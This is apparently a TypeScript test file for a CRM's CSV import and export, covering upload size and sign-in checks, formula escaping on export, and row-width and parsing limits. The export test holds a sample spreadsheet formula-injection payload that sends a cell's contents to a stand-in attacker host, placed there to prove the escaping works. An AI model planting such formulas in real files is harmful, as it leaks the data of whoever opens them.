/**
 * The CSV paths against hostile input: a signed-out or oversized upload is answered before
 * its body is read, an export never hands a spreadsheet a formula, and a row far wider
 * than the column bound stops the parse.
 */
import { type IncomingMessage, request } from "node:http";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { exportCsvText } from "../../src/csv/export.js";
import { CsvImporter } from "../../src/csv/import.js";
import { CSV_LIMITS, readCsv } from "../../src/csv/read.js";
import type { EntityRecord, EntityType } from "../../src/domain/model.js";
import type { Actor } from "../../src/events/recorder.js";
import { startHttpServer } from "../../src/http/server.js";
import { UI_UPLOAD_MAX_BYTES } from "../../src/http/ui/imports.js";
import { openTestApp, type TestApp } from "../support/app.js";
import { until } from "../support/wait.js";

let t: TestApp;

beforeEach(async () => {
  t = await openTestApp({ dispatch: false });
});
afterEach(async () => {
  await t.close();
});

const all = async (actor: Actor, type: EntityType) => {
  const out: EntityRecord[] = [];
  for await (const chunk of t.app.crm.scan(actor, type)) out.push(...chunk);
  return out;
};

describe("an upload is answered before its body is read", () => {
  /**
   * Sends the headers of a multipart POST to /import that declares `declared` bytes, and
   * only a first few bytes of the body; the answer has to come without the rest.
   */
  async function postHeadersOnly(base: string, declared: number, cookie?: string) {
    let answer: IncomingMessage | undefined;
    const url = new URL("/import", base);
    const req = request(url, {
      method: "POST",
      headers: {
        "content-type": "multipart/form-data; boundary=xyz",
        "content-length": String(declared),
        origin: url.origin,
        ...(cookie ? { cookie } : {}),
      },
    });
    req.on("response", (res) => {
      answer = res;
      res.resume();
    });
    req.on("error", () => {});
    req.write("--xyz\r\n");
    try {
      await until(() => answer !== undefined, 5000, "an answer to the upload's headers");
      return answer!;
    } finally {
      req.destroy();
    }
  }

  it("sends a signed-out upload to sign in, and refuses a declared size past the bound", async () => {
    const http = await startHttpServer(t.app, { host: "127.0.0.1", port: 0 });
    try {
      const signedOut = await postHeadersOnly(http.url, 16 * 1024 * 1024);
      expect(signedOut.statusCode).toBe(303);
      expect(signedOut.headers.location).toBe("/login");

      const key = (await t.app.tenants.createApiKey(t.owner, "ui")).key;
      const login = await fetch(`${http.url}/login`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({ key }).toString(),
        redirect: "manual",
      });
      const cookie = /^(crm_session=[^;]+)/.exec(login.headers.get("set-cookie") ?? "")?.[1];
      expect(cookie).toBeTruthy();
      const tooLarge = await postHeadersOnly(http.url, UI_UPLOAD_MAX_BYTES + 1, cookie);
      expect(tooLarge.statusCode).toBe(413);
    } finally {
      await http.close();
    }
  });
});

describe("export guards against formulas", () => {
  it("prefixes cells and headers a spreadsheet would run, and import takes the prefix off", async () => {
    const crm = t.app.crm;
    const column = await crm.createColumn(t.owner, {
      entityType: "contact",
      label: "@Score",
      type: "text",
      options: [],
    });
    const name = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
    await crm.create(t.owner, "contact", [
      {
        firstName: name,
        lastName: "'=quoted already",
        jobTitle: "-lead",
        phones: ["+49 30 1234"],
        emails: ["x@example.com"],
        customFieldValues: [{ columnId: column.id, value: "+1" }],
      },
    ]);
    const csv = await exportCsvText(crm, t.owner, "contact");
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`);
    expect(csv).toContain("'+49 30 1234");
    expect(csv).toContain("''=quoted already");
    expect(csv).toContain("'-lead");
    expect(csv.split("\n")[0]).toContain(",'@Score");
    for (const line of csv.trim().split("\n"))
      for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);

    const other = await t.app.tenants.createCompany("Other", "Eve");
    await crm.createColumn(other, { entityType: "contact", label: "@Score", type: "text", options: [] });
    const report = await new CsvImporter(crm).import(other, "contact", csv);
    expect(report.counts).toMatchObject({ created: 1, refused: 0 });
    const [copy] = await all(other, "contact");
    expect(copy).toMatchObject({
      firstName: name,
      lastName: "'=quoted already",
      jobTitle: "-lead",
      phones: ["+49 30 1234"],
      emails: ["x@example.com"],
    });
    expect(copy!.customFieldValues.map((v) => v.value)).toEqual(["+1"]);
    const withoutIds = (text: string) => text.replace(/^ct_\w+,/gm, "");
    expect(withoutIds(await exportCsvText(crm, other, "contact"))).toBe(withoutIds(csv));
  });
});

describe("the column bound holds while parsing", () => {
  it("refuses a data row far wider than the bound, naming the row and the limit", async () => {
    const wide = `Email\na@example.com\nb@example.com${",".repeat(100_000)}\n`;
    await expect(new CsvImporter(t.app.crm).import(t.owner, "contact", wide)).rejects.toThrow(
      `file: row 3 has 100001 cells; the limit is ${CSV_LIMITS.maxColumns} columns`,
    );
    expect(await all(t.owner, "contact")).toEqual([]);
  });

  it("lets the event loop run while a large file is parsed", async () => {
    const big = `Email,Name\n${"someone@example.com,Some One\n".repeat(100_000)}`;
    let turns = 0;
    let done = false;
    const turn = () => {
      turns++;
      if (!done) setImmediate(turn);
    };
    setImmediate(turn);
    const table = await readCsv(big);
    done = true;
    expect(table.rows).toHaveLength(100_000);
    expect(turns).toBeGreaterThan(1);
  });
});
